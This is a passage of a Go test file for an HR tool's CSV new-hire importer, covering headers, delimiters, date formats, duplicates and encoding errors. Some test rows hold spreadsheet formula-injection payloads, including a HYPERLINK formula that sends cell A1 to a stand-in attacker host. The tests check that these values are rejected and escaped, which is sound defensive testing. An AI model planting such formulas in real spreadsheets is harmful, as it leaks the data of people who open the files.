package onboard_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/iotest"
	"unicode/utf16"

	"github.com/hrsync/hrsync/source/v1"
	"github.com/hrsync/hrsync/sync/onboard"
)

func emp(first, last, email, title, date string) v1.NewEmployee {
	return v1.NewEmployee{FirstName: first, LastName: last, Email: email, JobTitle: title, JoinDate: date}
}

// readSample reads a file of testdata/hires.
func readSample(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "hires", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// checkHires compares a ReadHires result with what was wanted, saying every difference. The
// problems' names are not compared: TestReadHiresNames checks them.
func checkHires(t *testing.T, gotH []onboard.Hire, gotP []onboard.RowProblem, err error, wantH []onboard.Hire, wantP []onboard.RowProblem) {
	t.Helper()
	if err != nil {
		t.Fatalf("ReadHires: %v", err)
	}
	gotP = noNames(gotP)
	if !slices.Equal(gotH, wantH) {
		t.Errorf("hires:\n got %s\nwant %s", dump(gotH), dump(wantH))
	}
	if !slices.Equal(gotP, wantP) {
		t.Errorf("problems:\n got %s\nwant %s", dump(gotP), dump(wantP))
	}
}

// noNames is problems without their names.
func noNames(problems []onboard.RowProblem) []onboard.RowProblem {
	problems = slices.Clone(problems)
	for i := range problems {
		problems[i].FirstName, problems[i].LastName = "", ""
	}
	return problems
}

func dump[T any](s []T) string {
	var b strings.Builder
	for _, v := range s {
		fmt.Fprintf(&b, "\n\t%+v", v)
	}
	return b.String()
}

// notADate is the reason of a join date v that is no date at all, by default.
func notADate(v string) string {
	return fmt.Sprintf("join_date: %q is not a date: write it as YYYY-MM-DD, day first (25/12/2026, 25.12.26) or with the month's name (25 Dec 2026); for month-first dates (12/25/2026) set onboarding.date_layout: 01/02/2006", v)
}

// notDayFirst is the reason of a join date v that is only a date read month first, by default.
func notDayFirst(v string) string {
	return fmt.Sprintf("join_date: %q is not a date read day first, as UK and European Excel write dates (25/12/2026); if the file's dates are month first (12/25/2026), set onboarding.date_layout: 01/02/2006", v)
}

// ada is the hire of the row "Ada,Lovelace,ada@example.com,2025-01-06" on line.
func ada(line int) onboard.Hire {
	return onboard.Hire{Line: line, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}
}

// usedAgain is the problem of the row on line whose email was first on line first: skipped as a
// repeat.
func usedAgain(line int, email string, first int) onboard.RowProblem {
	return onboard.RowProblem{Line: line, Email: email, Reason: fmt.Sprintf("email: used again (first on line %d)", first), Duplicate: true}
}

// rowsCase is a ReadHires case: rows read under the header First name,Last name,Email,Join date,
// and the hires and problems wanted.
type rowsCase struct {
	name string
	rows string
	want []onboard.Hire
	prob []onboard.RowProblem
}

// checkRows reads each case's rows, with the default options, and checks what comes back.
func checkRows(t *testing.T, tests []rowsCase) {
	t.Helper()
	const header = "First name,Last name,Email,Join date\n"
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h, p, err := onboard.ReadHires(strings.NewReader(header+tt.rows), onboard.HireOptions{})
			checkHires(t, h, p, err, tt.want, tt.prob)
		})
	}
}

func TestReadHiresSamples(t *testing.T) {
	t.Parallel()
	// What excel-europe.csv holds, read by default or with its layout configured.
	europeWant := []onboard.Hire{
		{Line: 2, Employee: emp("Jürgen", "Müller", "juergen.mueller@example.de", "Vertrieb; Innendienst", "2025-04-01")},
		{Line: 3, Employee: emp("Ana", "García López", "ana.garcia@example.es", "Ingeniera", "2025-04-07")},
	}
	europeProb := []onboard.RowProblem{
		{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: `join_date: "31.04.2025" is not a calendar date, read day first or month first`},
		{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address"},
	}
	tests := []struct {
		file string
		opts onboard.HireOptions
		want []onboard.Hire
		prob []onboard.RowProblem
	}{{
		// Excel on Windows, "CSV UTF-8": BOM, CRLF, a line break inside a cell written as LF,
		// human headers, quoted commas, blank rows at the end.
		file: "excel-windows.csv",
		want: []onboard.Hire{
			{Line: 2, Employee: emp("Zoë", "Ødegård", "zoe.odegard@example.com", "Product Designer", "2025-03-03")},
			{Line: 3, Employee: emp("John", "Smith, Jr.", "john.smith@example.com", "Head of Sales, EMEA", "2025-03-10")},
			// 03/04/2025, day first as Excel in the UK writes it.
			{Line: 5, Employee: emp("Amélie", "Dubois", "AMELIE.DUBOIS@EXAMPLE.COM", "Engineer", "2025-04-03")},
			{Line: 9, Employee: emp("Seán", "O'Brien", "sean.obrien@example.com", "", "2025-03-24")},
		},
		prob: []onboard.RowProblem{
			usedAgain(6, "amelie.dubois@example.com", 5),
			{Line: 7, Email: "priya.natarajan@example.com", Reason: "last_name: missing"},
			{Line: 8, Email: "bjorn.lindqvist@example", Reason: `email: not a valid email address; join_date: "2025-02-30" is not a calendar date`},
		},
	}, {
		// Excel in a European locale: ';', dates as the locale writes them (day first, dotted).
		file: "excel-europe.csv",
		want: europeWant,
		prob: europeProb,
	}, {
		// The same, the layout configured: as the default reads it.
		file: "excel-europe.csv",
		opts: onboard.HireOptions{DateLayout: "02.01.2006"},
		want: europeWant,
		prob: europeProb,
	}, {
		// Google Sheets: LF, no BOM, no line end after the last row, snake_case headers. A file
		// may be cut short where it has no line end: its last row is never taken.
		file: "google-sheets.csv",
		want: []onboard.Hire{
			{Line: 2, Employee: emp("李", "小龙", "xiaolong.li@example.cn", "软件工程师", "2025-05-05")},
			{Line: 3, Employee: emp("Ольга", "Иванова", "olga.ivanova@example.com", "Бухгалтер", "2025-05-12")},
			{Line: 4, Employee: emp("محمد", "العلي", "mohammed.alali@example.com", "مهندس", "2025-05-19")},
			{Line: 6, Employee: emp("Minh Khai", "Nguyễn", "KHAI.NGUYEN@example.com", "Designer", "2025-06-02")},
		},
		prob: []onboard.RowProblem{
			{Line: 5, Email: "'@SUM(A1:A2)", Reason: "email: not a valid email address"},
			{Line: 7, Email: "khai.nguyen@EXAMPLE.com", Reason: "the file ends inside this row (no line ending): it may be cut short; end the file with a line break and drop it again"},
		},
	}, {
		// Excel 2008 for Mac: lone CRs, also inside a cell.
		file: "excel-mac-2008.csv",
		want: []onboard.Hire{
			{Line: 2, Employee: emp("Renee", "Fleming", "renee.fleming@example.com", "Soprano", "2025-07-01")},
			{Line: 5, Employee: emp("Marie", "Curie", "marie.curie@example.com", "Physicist", "2025-07-14")},
		},
		prob: []onboard.RowProblem{
			{Line: 3, Email: "emile.zola@example.com", Reason: "job_title: contains control characters"},
		},
	}}
	for _, tt := range tests {
		t.Run(tt.file+"/"+tt.opts.DateLayout, func(t *testing.T) {
			data := readSample(t, tt.file)
			h, p, err := onboard.ReadHires(bytes.NewReader(data), tt.opts)
			checkHires(t, h, p, err, tt.want, tt.prob)
			// However the reads split the bytes (a CRLF across two reads, a BOM byte by byte).
			for name, r := range map[string]io.Reader{
				"one byte":  iotest.OneByteReader(bytes.NewReader(data)),
				"half":      iotest.HalfReader(bytes.NewReader(data)),
				"data, EOF": iotest.DataErrReader(bytes.NewReader(data)),
			} {
				h, p, err := onboard.ReadHires(r, tt.opts)
				if err != nil || !slices.Equal(h, tt.want) || !slices.Equal(noNames(p), tt.prob) {
					t.Errorf("read %s at a time: %s %s %v", name, dump(h), dump(p), err)
				}
			}
		})
	}
}

func TestReadHiresHeaders(t *testing.T) {
	t.Parallel()
	want := []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "Analyst", "2025-01-06")}}
	tests := []struct {
		name   string
		header string
		row    string
	}{
		{"snake case", "first_name,last_name,email,job_title,join_date", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"human", "First Name,Last Name,Email,Job Title,Join Date", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"shouting, hyphens", "FIRST-NAME,LAST-NAME,E-MAIL,JOB-TITLE,JOIN-DATE", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"colons, spaces", " First name: , Last name:,Email:,Job title:,Join date:", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"remarks", "First name*,Last name*,Email (work),Job title (optional),Start date (YYYY-MM-DD)", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"aliases 1", "Given name,Surname,E-mail,Title,Start date", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"aliases 2", "Forename,Family name,Email address,Job,Joining date", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"aliases 3", "Forename,Family name,Work email,Role,Company join date", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"aliases 4", "Forename,Family name,Work email,Position,Hire date", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"any order, unknown columns", "Employee ID,Email,Department,Join date,Last name,Manager,First name,Role,", "E-17,ada@example.com,Research,2025-01-06,Lovelace,Babbage,Ada,Analyst,"},
		{"quoted header", `"First name","Last name","Email","Job title","Join date"`, "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
		{"blank rows before it", ",,,\n\nFirst name,Last name,Email,Job title,Join date", "Ada,Lovelace,ada@example.com,Analyst,2025-01-06"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := tt.header + "\n" + tt.row + "\n"
			w := slices.Clone(want)
			w[0].Line = strings.Count(in, "\n")
			h, p, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{})
			checkHires(t, h, p, err, w, nil)
		})
	}
	t.Run("no job title column", func(t *testing.T) {
		h, p, err := onboard.ReadHires(strings.NewReader("First name,Last name,Email,Join date\nAda,Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{})
		checkHires(t, h, p, err, []onboard.Hire{ada(2)}, nil)
	})
	t.Run("full name is not first name", func(t *testing.T) {
		_, _, err := onboard.ReadHires(strings.NewReader("Name,Email,Join date\nAda Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{})
		if err == nil || !strings.Contains(err.Error(), "first_name") || !strings.Contains(err.Error(), "last_name") {
			t.Fatalf("err = %v, want first_name and last_name missing", err)
		}
	})
}

// TestReadHiresFormats reads the same rows written every way a spreadsheet writes them.
func TestReadHiresFormats(t *testing.T) {
	t.Parallel()
	rows := [][]string{
		{"First name", "Last name", "Email", "Job title", "Join date", "Notes"},
		{"Zoë", "Ødegård", "zoe@example.com", "Designer", "2025/03/03", ""},
		{"John", "Smith, Jr.", "john@example.com", `Head of "Sales"; EMEA`, "2025-03-10", "two\nlines"},
		{"", "", "", "", "", ""},
		{"Ana", "García", "ana@example.com", "", "2025-04-07", "x"},
	}
	want := []onboard.Hire{
		{Line: 2, Employee: emp("Zoë", "Ødegård", "zoe@example.com", "Designer", "2025-03-03")},
		{Line: 3, Employee: emp("John", "Smith, Jr.", "john@example.com", `Head of "Sales"; EMEA`, "2025-03-10")},
		{Line: 6, Employee: emp("Ana", "García", "ana@example.com", "", "2025-04-07")},
	}
	for _, sep := range []rune{',', ';', '\t'} {
		for _, eol := range []string{"\n", "\r\n", "\r"} {
			for _, bom := range []string{"", "\ufeff"} {
				for _, sepLine := range []bool{false, true} {
					var b bytes.Buffer
					b.WriteString(bom)
					if sepLine {
						fmt.Fprintf(&b, "sep=%c\n", sep)
					}
					w := csv.NewWriter(&b)
					w.Comma = sep
					if err := w.WriteAll(rows); err != nil {
						t.Fatal(err)
					}
					in := strings.ReplaceAll(b.String(), "\n", eol)
					t.Run(fmt.Sprintf("%q %q bom=%v sep=%v", sep, eol, bom != "", sepLine), func(t *testing.T) {
						w := slices.Clone(want)
						if sepLine {
							for i := range w {
								w[i].Line++
							}
						}
						h, p, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{})
						checkHires(t, h, p, err, w, nil)
					})
				}
			}
		}
	}
}

func TestReadHiresRowProblems(t *testing.T) {
	t.Parallel()
	const header = "First name,Last name,Email,Job title,Join date\n"
	long := strings.Repeat("é", v1.MaxFieldLength+1)
	tests := []struct {
		name string
		row  string
		opts onboard.HireOptions
		want onboard.RowProblem // Line 2 unless set
	}{
		{"first name missing", ",Lovelace,ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "first_name: missing"}},
		{"blank first name", "  ,Lovelace,ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "first_name: missing"}},
		{"last name missing", "Ada,,ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "last_name: missing"}},
		{"email missing", "Ada,Lovelace,,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Reason: "email: missing"}},
		{"join date missing", "Ada,Lovelace,ada@example.com,,", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: missing"}},
		{"short row", "Ada,Lovelace,ada@example.com", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: missing"}},
		{"all missing but a note", ",,,Analyst,", onboard.HireOptions{}, onboard.RowProblem{Reason: "first_name: missing; last_name: missing; email: missing; join_date: missing"}},
		{"email without domain dot", "Ada,Lovelace,ada@example,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example", Reason: "email: not a valid email address"}},
		{"email with a name", `Ada,Lovelace,Ada Lovelace <ada@example.com>,,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Email: "Ada Lovelace <ada@example.com>", Reason: "email: not a valid email address"}},
		{"two emails", `Ada,Lovelace,"ada@example.com, al@example.com",,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com, al@example.com", Reason: "email: not a valid email address"}},
		{"month first", "Ada,Lovelace,ada@example.com,,04/30/2025", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notDayFirst("04/30/2025")}},
		{"day first, month first configured", "Ada,Lovelace,ada@example.com,,30/04/2025", onboard.HireOptions{DateLayout: "01/02/2006"}, onboard.RowProblem{Email: "ada@example.com",
			Reason: `join_date: "30/04/2025" is not a date read month first (onboarding.date_layout: 01/02/2006); read day first it is 30 Apr 2025: if the file's dates are day first, leave onboarding.date_layout empty`}},
		{"unpadded", "Ada,Lovelace,ada@example.com,,2025-3-4", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate("2025-3-4")}},
		{"mixed separators", "Ada,Lovelace,ada@example.com,,2025-03/04", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate("2025-03/04")}},
		{"timestamp", "Ada,Lovelace,ada@example.com,,2025-03-04 00:00:00", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate("2025-03-04 00:00:00")}},
		{"Excel serial", "Ada,Lovelace,ada@example.com,,45720", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com",
			Reason: `join_date: "45720" is an Excel date serial number, not a date: format the column as a date in Excel (or write YYYY-MM-DD) before saving as CSV`}},
		{"words", "Ada,Lovelace,ada@example.com,,next Monday", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate("next Monday")}},
		{"no such day", "Ada,Lovelace,ada@example.com,,2025-02-29", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "2025-02-29" is not a calendar date`}},
		{"no such month", "Ada,Lovelace,ada@example.com,,2025/13/01", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "2025/13/01" is not a calendar date`}},
		{"year zero", "Ada,Lovelace,ada@example.com,,0000-01-01", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "0000-01-01" is not a calendar date`}},
		{"not the layout", "Ada,Lovelace,ada@example.com,,2025.03.04", onboard.HireOptions{DateLayout: "20060102"}, onboard.RowProblem{Email: "ada@example.com",
			Reason: `join_date: "2025.03.04" is not a date: write it as YYYY-MM-DD, day first (25/12/2026, 25.12.26), with the month's name (25 Dec 2026) or as onboarding.date_layout (20060102) says (20250131)`}},
		{"not a day in the layout", "Ada,Lovelace,ada@example.com,,31/04/2025", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "31/04/2025" is not a calendar date, read day first or month first`}},
		{"year zero in the layout", "Ada,Lovelace,ada@example.com,,31/12/0000", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "31/12/0000" is not a calendar date, read day first or month first`}},
		{"too long", "Ada," + long + ",ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "last_name: too long (maximum is 255 characters)"}},
		{"line break in a name", "\"Ada\nAugusta\",Lovelace,ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "first_name: contains control characters"}},
		{"tab in a title", "Ada,Lovelace,ada@example.com,Analyst\tLead,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "job_title: contains control characters"}},
		{"several", "Ada,,ada@@example.com,,2025-02-30", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@@example.com", Reason: `last_name: missing; email: not a valid email address; join_date: "2025-02-30" is not a calendar date`}},
		{"shifted by an unquoted comma", "Ada,Lovelace,ada@example.com,Analyst, Finance,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "row has 6 cells but the header has 5, and the extra cells are not blank"}},
		{"bare quote", `Dwayne "The Rock",Johnson,dj@example.com,,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Reason: `quotes: a " inside a cell that is not quoted (quote the cell and double the ")`}},
		{"text after a closing quote", `"Smith" Jr.,Johnson,dj@example.com,,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Reason: `quotes: a quoted cell is not closed properly (text after its closing ", or no closing ")`}},
		{"formula as email", `Ada,Lovelace,"=HYPERLINK(""https://evil.example"",""click"")",,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Email: `'=HYPERLINK("https://evil.example","click")`, Reason: "email: not a valid email address"}},
		{"plus as email", "Ada,Lovelace,+1,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "'+1", Reason: "email: not a valid email address"}},
		{"minus as email", "Ada,Lovelace,-2,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "'-2", Reason: "email: not a valid email address"}},
		{"at as email", "Ada,Lovelace,@SUM(A1:A9),,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "'@SUM(A1:A9)", Reason: "email: not a valid email address"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want := tt.want
			if want.Line == 0 {
				want.Line = 2
			}
			// A good row after the bad one: the bad one does not stop the reading.
			in := header + tt.row + "\nGrace,Hopper,grace@example.com,,2025-01-13\n"
			next := strings.Count(header+tt.row, "\n") + 2
			h, p, err := onboard.ReadHires(strings.NewReader(in), tt.opts)
			checkHires(t, h, p, err,
				[]onboard.Hire{{Line: next, Employee: emp("Grace", "Hopper", "grace@example.com", "", "2025-01-13")}},
				[]onboard.RowProblem{want})
			for _, p := range p {
				if strings.ContainsAny(p.Reason, "\r\n") || strings.Contains(p.Reason, "Lovelace") || strings.Contains(p.Reason, "ada@") {
					t.Errorf("reason %q is not one line free of values but the join date's", p.Reason)
				}
			}
		})
	}
	// On the last line, without a line end, too.
	t.Run("quote never closed at the end", func(t *testing.T) {
		h, p, err := onboard.ReadHires(strings.NewReader(header+`Ada,"Lovelace,ada@example.com,,2025-01-06`), onboard.HireOptions{})
		checkHires(t, h, p, err, nil, []onboard.RowProblem{{Line: 2, Reason: "the file ends inside a quoted cell of this row (its closing quote is missing): it may be cut short; close the quote, end the file with a line break and drop it again"}})
	})
}

func TestReadHiresRowShapes(t *testing.T) {
	t.Parallel()
	checkRows(t, []rowsCase{
		{
			name: "blank cells past the header are ignored",
			rows: "Ada,Lovelace,ada@example.com,2025-01-06,, ,\n",
			want: []onboard.Hire{ada(2)},
		},
		{
			name: "cells are trimmed",
			rows: "  Ada\u00a0 ,\tLovelace , ada@example.com ,  2025-01-06  \n",
			want: []onboard.Hire{ada(2)},
		},
		{
			name: "quoted cells after spaces",
			rows: `Ada, "Lovelace, Countess", ada@example.com,2025-01-06` + "\n",
			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace, Countess", "ada@example.com", "", "2025-01-06")}},
		},
		{
			name: "blank rows of every kind are skipped",
			rows: ",,,\n\n   \n , ,\t, \n\"\",\"\",,\nAda,Lovelace,ada@example.com,2025-01-06\n,,,\n,,,\n",
			want: []onboard.Hire{ada(7)},
		},
		{
			name: "a blank row with a quoted line break is still blank",
			rows: "\"\n\",,,\nAda,Lovelace,ada@example.com,2025-01-06\n",
			want: []onboard.Hire{ada(4)},
		},
		{
			name: "a lone CR in a CRLF file is in a cell, not a line end",
			rows: "\"Ada\rAugusta\",Lovelace,\"ada\r@example.com\",2025-01-06\r\nGrace,Hopper,grace@example.com,2025-01-13\r\n",
			want: []onboard.Hire{{Line: 3, Employee: emp("Grace", "Hopper", "grace@example.com", "", "2025-01-13")}},
			prob: []onboard.RowProblem{{Line: 2, Email: "ada\r@example.com", Reason: "first_name: contains control characters; email: contains control characters; email: not a valid email address"}},
		},
		{
			name: "decomposed accents are kept as given",
			rows: "Zoe\u0308,O\u0308degard,zoe@example.com,2025-01-06\n",
			want: []onboard.Hire{{Line: 2, Employee: emp("Zoe\u0308", "O\u0308degard", "zoe@example.com", "", "2025-01-06")}},
		},
	})
}

func TestReadHiresLineNumbers(t *testing.T) {
	t.Parallel()
	in := "First name,Last name,Email,Join date,Notes\r\n" + // 1
		"Ada,Lovelace,ada@example.com,2025-01-06,\"first\r\nsecond\r\nthird\"\r\n" + // 2-4
		"\r\n" + // 5
		"Grace,Hopper,grace,2025-01-13,\"one\n\ntwo\"\r\n" + // 6-8
		",,,,\r\n" + // 9
		"\"Alan\",\"Turing\",\"alan@example.com\",\"2025-01-20\",\"\"\"quoted\"\"\r\nnote\"\r\n" + // 10-11
		"Katherine,Johnson,KATHERINE@example.com,2025-01-27,\"a lone CR\ris no line end here\"\r\n" + // 12
		"Katherine,Johnson,katherine@example.com,2025-01-27,\n" // 13
	h, p, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{})
	checkHires(t, h, p, err,
		[]onboard.Hire{
			ada(2),
			{Line: 10, Employee: emp("Alan", "Turing", "alan@example.com", "", "2025-01-20")},
			{Line: 12, Employee: emp("Katherine", "Johnson", "KATHERINE@example.com", "", "2025-01-27")},
		},
		[]onboard.RowProblem{
			{Line: 6, Email: "grace", Reason: "email: not a valid email address"},
			usedAgain(13, "katherine@example.com", 12),
		})
}

// TestReadHiresLoneCR tells a file of lone CR line ends (old Excel for Mac) from a file with a
// lone CR inside a quoted cell, even in the header.
func TestReadHiresLoneCR(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		in   string
		want []int // lines of the hires
	}{
		{"lone CR line ends", "Notes,First name,Last name,Email,Join date\r\"x\ry\",Ada,Lovelace,ada@example.com,2025-01-06\rx,Grace,Hopper,grace@example.com,2025-01-13\r", []int{2, 4}},
		{"lone CR line ends, quoted header", "\"Notes\rabout\",First name,Last name,Email,Join date\r\"x\ry\",Ada,Lovelace,ada@example.com,2025-01-06\rx,Grace,Hopper,grace@example.com,2025-01-13\r", []int{3, 5}},
		{"LF line ends, CRs in cells", "\"Notes\rabout\",First name,Last name,Email,Join date\n\"x\ry\",Ada,Lovelace,ada@example.com,2025-01-06\nx,Grace,Hopper,grace@example.com,2025-01-13\n", []int{2, 3}},
		{"CRLF line ends, CRs in cells", "\"Notes\rabout\",First name,Last name,Email,Join date\r\n\"x\ry\",Ada,Lovelace,ada@example.com,2025-01-06\r\nx,Grace,Hopper,grace@example.com,2025-01-13\r\n", []int{2, 3}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h, p, err := onboard.ReadHires(strings.NewReader(tt.in), onboard.HireOptions{})
			if err != nil || len(p) != 0 {
				t.Fatalf("problems %s, err %v", dump(p), err)
			}
			var lines []int
			for _, h := range h {
				lines = append(lines, h.Line)
			}
			if !slices.Equal(lines, tt.want) {
				t.Errorf("hires on lines %v, want %v", lines, tt.want)
			}
		})
	}
}

func TestReadHiresDuplicates(t *testing.T) {
	t.Parallel()
	checkRows(t, []rowsCase{
		{
			name: "any case, every repeat names the first",
			rows: "Ada,Lovelace,ada@example.com,2025-01-06\n" +
				"Ada,Lovelace,ADA@Example.COM,2025-01-06\n" +
				"Ada,King,Ada@example.com,2025-02-03\n",
			want: []onboard.Hire{ada(2)},
			prob: []onboard.RowProblem{
				usedAgain(3, "ADA@Example.COM", 2),
				usedAgain(4, "Ada@example.com", 2),
			},
		},
		{
			name: "non-ASCII case",
			rows: "Élodie,Martin,élodie@exemple.fr,2025-01-06\nÉlodie,Martin,ÉLODIE@EXEMPLE.FR,2025-01-06\n",
			want: []onboard.Hire{{Line: 2, Employee: emp("Élodie", "Martin", "élodie@exemple.fr", "", "2025-01-06")}},
			prob: []onboard.RowProblem{usedAgain(3, "ÉLODIE@EXEMPLE.FR", 2)},
		},
		{
			name: "the first row counts even when it is rejected",
			rows: "Ada,Lovelace,ada@example.com,01/13/2025\nAda,Lovelace,ada@example.com,2025-01-06\n",
			prob: []onboard.RowProblem{
				{Line: 2, Email: "ada@example.com", Reason: notDayFirst("01/13/2025")},
				usedAgain(3, "ada@example.com", 2),
			},
		},
		{
			name: "a repeat is skipped whatever else is wrong with it",
			rows: "Ada,Lovelace,ada@example.com,2025-01-06\n,,ada@example.com,soon\n",
			want: []onboard.Hire{ada(2)},
			prob: []onboard.RowProblem{usedAgain(3, "ada@example.com", 2)},
		},
		{
			name: "spaces around the email do not hide a repeat",
			rows: "Ada,Lovelace,ada@example.com,2025-01-06\nAda,Lovelace,  ada@example.com ,2025-01-06\n",
			want: []onboard.Hire{ada(2)},
			prob: []onboard.RowProblem{usedAgain(3, "ada@example.com", 2)},
		},
		{
			name: "invalid emails are not repeats but invalid",
			rows: "Ada,Lovelace,ada,2025-01-06\nAda,Lovelace,ada,2025-01-06\n",
			prob: []onboard.RowProblem{
				{Line: 2, Email: "ada", Reason: "email: not a valid email address"},
				{Line: 3, Email: "ada", Reason: "email: not a valid email address"},
			},
		},
		{
			name: "different emails",
			rows: "Ada,Lovelace,ada@example.com,2025-01-06\nAda,Lovelace,ada.l@example.com,2025-01-06\n",
			want: []onboard.Hire{
				ada(2),
				{Line: 3, Employee: emp("Ada", "Lovelace", "ada.l@example.com", "", "2025-01-06")},
			},
		},
	})
}

func TestReadHiresDateLayout(t *testing.T) {
	t.Parallel()
	in := "First name,Last name,Email,Join date\n" +
		"Ada,Lovelace,ada@example.com,03/04/2025\n" +
		"Grace,Hopper,grace@example.com,2025/04/03\n" +
		"Alan,Turing,alan@example.com,2025-04-03\n"
	tests := []struct {
		layout string
		want   []string // join dates of the three rows, "" for rejected
	}{
		{"", []string{"2025-04-03", "2025-04-03", "2025-04-03"}},
		{"02/01/2006", []string{"2025-04-03", "2025-04-03", "2025-04-03"}},
		{"01/02/2006", []string{"2025-03-04", "2025-04-03", "2025-04-03"}},
		{"2/1/2006", []string{"2025-04-03", "2025-04-03", "2025-04-03"}},
		// YYYY/MM/DD always wins over a layout that could also read it; numbers are read day first.
		{"2006/02/01", []string{"2025-04-03", "2025-04-03", "2025-04-03"}},
	}
	for _, tt := range tests {
		t.Run(tt.layout, func(t *testing.T) {
			h, _, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{DateLayout: tt.layout})
			if err != nil {
				t.Fatal(err)
			}
			got := make([]string, 3)
			for _, h := range h {
				got[h.Line-2] = h.Employee.JoinDate
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("join dates = %q, want %q", got, tt.want)
			}
		})
	}
	for _, layout := range []string{"2006", "01/2006", "02/01", "Monday", "hello"} {
		t.Run("refused "+layout, func(t *testing.T) {
			_, _, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{DateLayout: layout})
			if err == nil || !strings.Contains(err.Error(), "DateLayout") {
				t.Fatalf("err = %v, want the layout refused", err)
			}
		})
	}
}

func utf16Bytes(s string, bigEndian, bom bool) []byte {
	u := utf16.Encode([]rune(s))
	if bom {
		u = append([]uint16{0xFEFF}, u...)
	}
	b := make([]byte, 0, 2*len(u))
	for _, c := range u {
		if bigEndian {
			b = append(b, byte(c>>8), byte(c))
		} else {
			b = append(b, byte(c), byte(c>>8))
		}
	}
	return b
}

func TestReadHiresFileErrors(t *testing.T) {
	t.Parallel()
	const good = "First name,Last name,Email,Join date\nAda,Lovelace,ada@example.com,2025-01-06\n"
	boom := errors.New("disk on fire")
	tests := []struct {
		name string
		in   io.Reader
		opts onboard.HireOptions
		want []string // substrings of the error
	}{
		{"UTF-16 LE (Excel's Unicode Text)", bytes.NewReader(utf16Bytes(strings.ReplaceAll(good, ",", "\t"), false, true)), onboard.HireOptions{}, []string{"is UTF-16 text", "save it as CSV UTF-8"}},
		{"UTF-16 BE", bytes.NewReader(utf16Bytes(good, true, true)), onboard.HireOptions{}, []string{"is UTF-16 text", "save it as CSV UTF-8"}},
		{"UTF-16 without BOM", bytes.NewReader(utf16Bytes(good, false, false)), onboard.HireOptions{}, []string{"NUL", "save it as CSV UTF-8"}},
		{"Windows-1252", strings.NewReader("First name,Last name,Email,Join date\nZo\xeb,\xd8deg\xe5rd,zoe@example.com,2025-01-06\n"), onboard.HireOptions{}, []string{"line 2", "not UTF-8", "save it as CSV UTF-8"}},
